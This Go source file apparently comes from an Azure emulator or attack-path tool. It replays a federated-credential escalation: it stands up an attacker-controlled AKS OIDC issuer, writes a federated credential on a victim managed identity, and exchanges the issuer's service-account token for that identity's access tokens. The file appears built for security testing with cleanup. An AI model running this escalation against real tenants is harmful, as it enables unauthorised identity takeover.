package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/mimic-emu/mimic/internal/analyzer"
	"github.com/mimic-emu/mimic/internal/arm/msi"
	"github.com/mimic-emu/mimic/internal/resourceid"
)

// Federated credential writes. An identity that may write another's
// federated credentials gets that identity's tokens by making it trust an
// issuer whose keys the attacker holds. The replay stands one up as an
// attacker hosts one of their own: a throwaway AKS cluster, created in a
// resource group of its own with the operator's credentials and deleted at
// the end, whose OIDC issuer mimic trusts as it trusts any issuer. Only the
// credential write takes the escalating identity's token; a token of the
// cluster's service account is then exchanged at the token endpoint for
// the identity's tokens, exactly as a workload federated with it would.

// The attacker's service account: system:serviceaccount:mimic-attack:attacker.
const (
	attackNamespace = "mimic-attack"
	attackAccount   = "attacker"
	defaultLocation = "westeurope"
)

// attackerIssuer is the issuer the replay trusts identities to.
type attackerIssuer struct {
	sa  string // the service account's ARM id
	url string
}

// issuer stands up the attacker's issuer once per replay, in the
// subscription and location given.
func (p *replay) issuer(ctx context.Context, sub, location string) (*attackerIssuer, error) {
	if p.attacker != nil {
		return p.attacker, nil
	}
	op, err := p.env.OperatorToken(ctx, armResource)
	if err != nil {
		return nil, err
	}
	rg := "/subscriptions/" + sub + "/resourceGroups/mimic-attack-" + newName()[:8]
	put := func(path, api string, body any) ([]byte, error) {
		status, out, err := p.arm(ctx, http.MethodPut, path, api, op, body)
		if err != nil || status >= 300 {
			return nil, fmt.Errorf("the attacker's issuer: PUT %s: %s", path, detail(err, out))
		}
		p.undoAsOperator(http.MethodDelete, path, api, nil)
		return out, nil
	}
	if _, err := put(rg, apiVersions["microsoft.resources/resourcegroups"], map[string]any{"location": location}); err != nil {
		return nil, err
	}
	clusterAPI := apiVersions["microsoft.containerservice/managedclusters"]
	clusterID := rg + "/providers/Microsoft.ContainerService/managedClusters/attacker"
	out, err := put(clusterID, clusterAPI, map[string]any{
		"location": location,
		"identity": map[string]any{"type": "SystemAssigned"},
		"properties": map[string]any{
			"oidcIssuerProfile": map[string]any{"enabled": true},
			"securityProfile":   map[string]any{"workloadIdentity": map[string]any{"enabled": true}},
		},
	})
	if err != nil {
		return nil, err
	}
	var cluster struct {
		Properties struct {
			OIDCIssuerProfile struct {
				IssuerURL string `json:"issuerURL"`
			} `json:"oidcIssuerProfile"`
		} `json:"properties"`
	}
	if err := json.Unmarshal(out, &cluster); err != nil || cluster.Properties.OIDCIssuerProfile.IssuerURL == "" {
		return nil, fmt.Errorf("the attacker's issuer: the cluster %s reports no OIDC issuer URL", clusterID)
	}
	sa := clusterID + "/serviceAccounts/" + attackNamespace + "." + attackAccount
	if _, err := put(sa, clusterAPI, map[string]any{"properties": map[string]any{"namespace": attackNamespace, "name": attackAccount}}); err != nil {
		return nil, err
	}
	p.attacker = &attackerIssuer{sa: sa, url: cluster.Properties.OIDCIssuerProfile.IssuerURL}
	return p.attacker, nil
}

// federate replays a federated credential write on identity h.ID by the
// path's actor, and returns a token source for the identity.
func (p *replay) federate(ctx context.Context, h analyzer.Held, o *Obtained) tokenSource {
	fail := func(format string, args ...any) tokenSource {
		o.Error = fmt.Sprintf(format, args...)
		return nil
	}
	who := actor(h.Path)
	tok, err := p.token(ctx, who, armResource)
	if err != nil {
		return fail("%v", err)
	}
	id, err := resourceid.Parse(h.ID)
	if err != nil {
		return fail("%v", err)
	}
	// Which client the identity is, and where it lives: what an attacker
	// reads off the identity (the operator reads it here, so that the
	// replay does not need the actor to read it too).
	op, err := p.env.OperatorToken(ctx, armResource)
	if err != nil {
		return fail("%v", err)
	}
	api := apiVersions["microsoft.managedidentity/userassignedidentities"]
	status, body, err := p.arm(ctx, http.MethodGet, h.ID, api, op, nil)
	if err != nil || status != http.StatusOK {
		return fail("read %s: %s", h.ID, detail(err, body))
	}
	var ident struct {
		Location   string `json:"location"`
		Properties struct {
			ClientID string `json:"clientId"`
		} `json:"properties"`
	}
	if err := json.Unmarshal(body, &ident); err != nil || ident.Properties.ClientID == "" {
		return fail("read %s: no client id", h.ID)
	}
	if ident.Location == "" {
		ident.Location = defaultLocation
	}
	iss, err := p.issuer(ctx, id.Subscription, ident.Location)
	if err != nil {
		return fail("%v", err)
	}
	// The escalation itself: the actor writes the credential.
	fic := h.ID + "/federatedIdentityCredentials/mimic-attack-" + newName()[:8]
	status, body, err = p.arm(ctx, http.MethodPut, fic, api, tok, map[string]any{"properties": map[string]any{
		"issuer": iss.url, "subject": "system:serviceaccount:" + attackNamespace + ":" + attackAccount, "audiences": []string{msi.DefaultAudience},
	}})
	if err != nil || status >= 300 {
		return fail("write a federated credential on %s with %s's token: %s", h.ID, who, detail(err, body))
	}
	p.undoAsOperator(http.MethodDelete, fic, api, nil)
	clientID := ident.Properties.ClientID
	return func(ctx context.Context, resource string) (string, error) {
		sat, err := p.attackerToken(ctx, iss)
		if err != nil {
			return "", err
		}
		return p.exchange(ctx, clientID, sat, resource)
	}
}

// attackerToken is a fresh token of the attacker's service account.
func (p *replay) attackerToken(ctx context.Context, iss *attackerIssuer) (string, error) {
	op, err := p.env.OperatorToken(ctx, armResource)
	if err != nil {
		return "", err
	}
	status, body, err := p.arm(ctx, http.MethodPost, iss.sa+"/token", apiVersions["microsoft.containerservice/managedclusters"], op, nil)
	if err != nil || status != http.StatusOK {
		return "", fmt.Errorf("the attacker's service-account token: %s", detail(err, body))
	}
	var out struct{ Token string }
	if err := json.Unmarshal(body, &out); err != nil || out.Token == "" {
		return "", fmt.Errorf("the attacker's service-account token: %s", detail(err, body))
	}
	return out.Token, nil
}

// exchange trades a federated assertion for a client's access token at
// the token endpoint, as the Azure SDKs' workload identity credential does.
func (p *replay) exchange(ctx context.Context, clientID, assertion, resource string) (string, error) {
	form := url.Values{
		"grant_type": {"client_credentials"}, "client_id": {clientID}, "scope": {strings.TrimSuffix(resource, "/") + "/.default"},
		"client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}, "client_assertion": {assertion},
	}
	status, body, err := p.do(ctx, p.direct, http.MethodPost, strings.TrimSuffix(p.env.AuthorityURL, "/")+"/"+p.env.Tenant+"/oauth2/v2.0/token",
		"", form.Encode(), map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
	if err != nil {
		return "", err
	}
	return accessToken(status, body)
}
